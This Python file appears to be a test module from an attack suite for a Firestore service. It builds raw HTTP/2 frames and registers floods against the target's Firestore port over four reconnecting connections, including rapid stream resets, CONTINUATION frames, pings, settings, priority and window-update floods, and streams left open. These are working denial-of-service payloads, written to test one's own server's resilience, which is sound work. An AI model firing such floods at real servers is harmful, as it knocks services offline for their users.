"""HTTP/2 frames to the port of Firestore, without a call that Firestore answers with a message."""

import itertools
import struct
from collections.abc import Callable, Iterator
from functools import partial

from tests.attack.registry import add
from tests.attack.target import Target, repeat, send_each

Flood = Callable[[], Iterator[bytes]]

_CONNECTIONS = 4
_BATCH = 1_000
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_UNKNOWN = 0x42
_END_STREAM, _END_HEADERS = 0x1, 0x4
_CANCEL = struct.pack("!I", 8)


def http2_frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """Return an HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def _literal(prefix: bytes, *texts: bytes) -> bytes:
    return prefix + b"".join(bytes([len(text)]) + text for text in texts)


_PATH = b"/google.firestore.v1.Firestore/Listen"
_FIRST_CALL = b"\x83\x86" + b"".join(
    [
        _literal(b"\x44", _PATH),
        _literal(b"\x41", b"localhost"),
        _literal(b"\x5f", b"application/grpc"),
        _literal(b"\x40", b"te", b"trailers"),
    ]
)
"""The headers of a call in HPACK (RFC 7541). They enter the table of the connection."""

_CALL = b"\x83\x86\xc1\xc0\xbf\xbe"
"""The same headers as indices of the table."""

_START = (
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    + http2_frame(_SETTINGS)
    + http2_frame(_HEADERS, _FIRST_CALL, flags=_END_HEADERS, stream=1)
)
"""The start of a connection, with a call that stays open."""


def _repeated(data: bytes) -> Iterator[bytes]:
    return itertools.repeat(data * _BATCH)


def _calls(*more: tuple[int, bytes, int]) -> Iterator[bytes]:
    """Yield calls, each followed by more frames: their types, payloads and flags."""
    frames = ((_HEADERS, _CALL, _END_HEADERS), *more)
    for first in itertools.count(3, 2 * _BATCH):
        yield b"".join(
            http2_frame(kind, payload, flags=flags, stream=stream)
            for stream in range(first, first + 2 * _BATCH, 2)
            for kind, payload, flags in frames
        )


def _continuations() -> Iterator[bytes]:
    yield http2_frame(_HEADERS, _CALL, stream=3)
    yield from _repeated(http2_frame(_CONTINUATION, stream=3))


_FLOODS: dict[str, Flood] = {
    "calls_left_open": _calls,
    "calls_reset": partial(_calls, (_RST_STREAM, _CANCEL, 0)),
    "calls_ended": partial(_calls, (_DATA, bytes(5), _END_STREAM)),
    "continuations": _continuations,
    "empty_data": partial(_repeated, http2_frame(_DATA, stream=1)),
    "large_data": partial(_repeated, http2_frame(_DATA, bytes(16_384), stream=1)),
    "pings": partial(_repeated, http2_frame(_PING, bytes(8))),
    "priorities": partial(_repeated, http2_frame(_PRIORITY, bytes(5), stream=3)),
    "settings": partial(_repeated, http2_frame(_SETTINGS, struct.pack("!HI", 4, 65_535))),
    "unknown": partial(_repeated, http2_frame(_UNKNOWN)),
    "window_updates": partial(_repeated, http2_frame(_WINDOW_UPDATE, struct.pack("!I", 1), stream=1)),
}


async def flood(frames: Flood, target: Target) -> None:
    """Send frames over four connections as fast as possible. Open a new connection when one is closed."""

    async def act() -> None:
        async with target.connection(target.firestore_port) as streams:
            await send_each(streams, itertools.chain([_START], frames()), target.seconds)

    await repeat(target, _CONNECTIONS, act)


for _name, _frames in _FLOODS.items():
    add(f"grpc_{_name}", partial(flood, _frames), is_short=_name in ("calls_reset", "pings"))
